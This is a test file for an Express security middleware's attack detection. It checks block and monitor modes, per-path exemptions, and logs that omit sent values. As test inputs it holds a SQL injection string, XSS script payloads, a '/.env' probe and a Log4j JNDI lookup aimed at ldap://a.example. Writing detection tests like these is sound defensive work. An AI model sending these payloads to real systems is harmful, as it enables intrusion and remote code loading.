import express from 'express'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Kit, listen, openKit } from '../../../test/adapters/site.ts'
import { createTestSecurity } from '../../testing/index.ts'
import { listener } from '../node/index.ts'
import { createSecurity, type ExpressSecurity } from './index.ts'

type Site = Awaited<ReturnType<typeof listen>>

function appOf(security: ExpressSecurity) {
  const app = security.protect(express())
  const echo: express.RequestHandler = (request, response) => {
    response.json({ path: request.path, body: request.body ?? null })
  }
  app.get('/items', security.open(), echo)
  app.post('/items', security.open(), echo)
  app.post('/snippets/:id', security.open(), echo)
  app.post('/xml', security.open(), express.text({ type: '*/xml' }), security.inspect(), echo)
  return app
}

const union = `/items?q=${encodeURIComponent("1' union select password from users--")}`
const form = { 'content-type': 'application/x-www-form-urlencoded' }
const json = { 'content-type': 'application/json' }
const script = `text=${encodeURIComponent('<script>alert(1)</script>')}`

/** What Log4j would look up. */
const lookup = ['$', '{jndi:ldap://a.example/a}'].join('')

describe('in mode block', () => {
  let kit: Kit
  let site: Site
  beforeAll(async () => {
    const exempt = [
      { path: '/snippets/:id', rules: ['xss'], fields: ['body.text'] },
      { path: '/elsewhere/*' },
    ]
    kit = await openKit({ detection: { mode: 'block', exempt } })
    site = await listen(appOf(kit.security))
  })
  afterAll(async () => {
    await site.stop()
    await kit.close()
  })

  it.each([
    ['the query', union, {}],
    ['the path', '/items/.env', {}],
    ['a header', '/items', { headers: { referer: 'https://a.example/<script>alert(1)</script>' } }],
    ['a cookie', '/items', { headers: { cookie: 'a=<script>alert(1)</script>' } }],
    ['a form', '/items', { method: 'POST', headers: form, body: script }],
    [
      'the lookup of a JSON value',
      '/items',
      { method: 'POST', headers: json, body: JSON.stringify({ a: lookup }) },
    ],
  ])('an attack in %s is 403, and says which request it was', async (_, path, init) => {
    const { headers, json: problem, status } = await site.fetch(path, init)
    expect([status, problem?.code]).toEqual([403, 'request_suspicious'])
    expect(problem).toMatchObject({ requestId: headers.get('x-request-id') })
    expect(JSON.stringify(problem)).not.toMatch(/sql|xss|union|script|jndi/)
  })

  it('text that people write passes as a JSON value, as it was sent', async () => {
    const body = JSON.stringify({ text: "O'Brien <script>alert(1)</script> ' OR 1=1 --" })
    const answer = await site.fetch('/items', { method: 'POST', headers: json, body })
    expect(answer.status).toBe(200)
    expect(answer.json?.body).toEqual(JSON.parse(body))
  })

  it('an exemption lets its classes pass in its fields of its path, and nothing else', async () => {
    const post = (path: string, body: string) =>
      site.fetch(path, { method: 'POST', headers: form, body })
    expect((await post('/snippets/1', script)).status).toBe(200)
    expect((await post('/snippets/1', script.replace('text', 'title'))).status).toBe(403)
    expect((await post('/snippets/1/2', script)).status).toBe(403)
    const sql = `text=${encodeURIComponent("1' union select password from users--")}`
    expect((await post('/snippets/1', sql)).status).toBe(403)
  })

  it('what was seen on an exempt path is not taken for harmless elsewhere', async () => {
    const headers = { 'user-agent': '<script>alert(1)</script>' }
    await site.fetch('/elsewhere/1', { headers })
    expect((await site.fetch('/items', { headers })).status).toBe(403)
  })

  it('a body that the app reads itself is inspected where the route says so', async () => {
    const send = (body: string) =>
      site.fetch('/xml', { method: 'POST', headers: { 'content-type': 'text/xml' }, body })
    expect((await send('<a>1 &lt; 2</a>')).status).toBe(200)
    expect((await send('<a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>')).status).toBe(403)
  })

  it('the API of Holdfast is inspected in its query, and never in its bodies', async () => {
    const { status } = await site.fetch(`/auth/me?next=${encodeURIComponent('<script>')}`)
    expect(status).toBe(403)
    const body = JSON.stringify({ identifier: 'a@example.com', password: lookup })
    const answer = await site.fetch('/auth/login', { method: 'POST', headers: json, body })
    expect(answer.json?.code).toBe('invalid_credentials')
  })

  it('log, record and report name rule and field, and never what was sent', async () => {
    kit.log.length = 0
    const secret = 'planted-value-of-a-client'
    const query = encodeURIComponent(`${secret}' union select 1 from users--`)
    await site.fetch(`/items?search=${query}`)
    const line = kit.log.find(({ message }) => message === 'a request looks like an attack')
    expect(line?.fields.findings).toContainEqual({
      rule: 'sql.union-break',
      field: 'query.search',
      valueHash: expect.stringMatching(/^[0-9a-f]{16}$/),
    })
    // No path: it may be what was sent.
    expect(line?.fields).toMatchObject({ method: 'GET', ip: '127.0.0.1' })
    expect(JSON.stringify(kit.log)).not.toContain(secret)
    const { detector } = kit.security.parts.rooms
    await detector.flush()
    const items = await kit.security.parts.ground.audit.find({
      action: 'detection.blocked',
      limit: 50,
    })
    expect(items.length).toBeGreaterThan(0)
    expect(JSON.stringify(items)).not.toContain(secret)
  })

  it('a flood of attacks writes a bounded number of lines', async () => {
    kit.log.length = 0
    for (let at = 0; at < 40; at++) await site.fetch(union)
    const lines = kit.log.filter(({ message }) => message === 'a request looks like an attack')
    expect(lines.length).toBeLessThanOrEqual(30)
  })
})

it('a field that the app named is told alike in the log, the report and the record', async () => {
  const exempt = [{ path: '/elsewhere', fields: ['query.wonky'] }]
  const kit = await openKit({ detection: { mode: 'block', exempt } })
  const site = await listen(appOf(kit.security))
  expect((await site.fetch(union.replace('?q', '?wonky'))).status).toBe(403)
  await kit.security.parts.rooms.detector.flush()
  const items = await kit.security.parts.ground.audit.find({
    action: 'detection.blocked',
    limit: 5,
  })
  const { refusals } = await kit.security.shield.report()
  const line = kit.log.find(({ message }) => message === 'a request looks like an attack')
  for (const told of [items, refusals, line?.fields.findings]) {
    expect(JSON.stringify(told)).toContain('query.wonky')
    expect(JSON.stringify(told)).not.toContain(':name')
  }
  await site.stop()
  await kit.close()
})

describe('in the other modes', () => {
  it('monitor lets pass and counts, as the default', async () => {
    const kit = await openKit()
    const site = await listen(appOf(kit.security))
    expect((await site.fetch(union)).status).toBe(200)
    const { shadow } = kit.security.parts.ground
    expect(shadow.size).toBeGreaterThan(0)
    await site.stop()
    await kit.close()
  })

  it('off does neither', async () => {
    const kit = await openKit({ detection: { mode: 'off' } })
    const site = await listen(appOf(kit.security))
    expect((await site.fetch(union)).status).toBe(200)
    expect(kit.security.parts.ground.shadow.size).toBe(0)
    await site.stop()
    await kit.close()
  })

  it('profile strict refuses', async () => {
    const kit = await openKit({ profile: 'strict' })
    const site = await listen(
      listener(kit.security, async (_request, response, context) => {
        await context.body()
        response.end('fine')
      }),
    )
    expect((await site.fetch(union)).status).toBe(403)
    const sent = await site.fetch('/items', { method: 'POST', headers: form, body: script })
    expect(sent.status).toBe(403)
    expect((await site.fetch('/items')).text).toBe('fine')
    await site.stop()
    await kit.close()
  })

  it('an exemption from a rule that there is not keeps the process from starting', async () => {
    const exempt = [{ path: '/a', rules: ['sql.onion'] }]
    const options = { baseUrl: 'http://localhost:3000', detection: { exempt } }
    await expect(createTestSecurity(options, createSecurity)).rejects.toThrow(/sql\.onion/)
  })
})
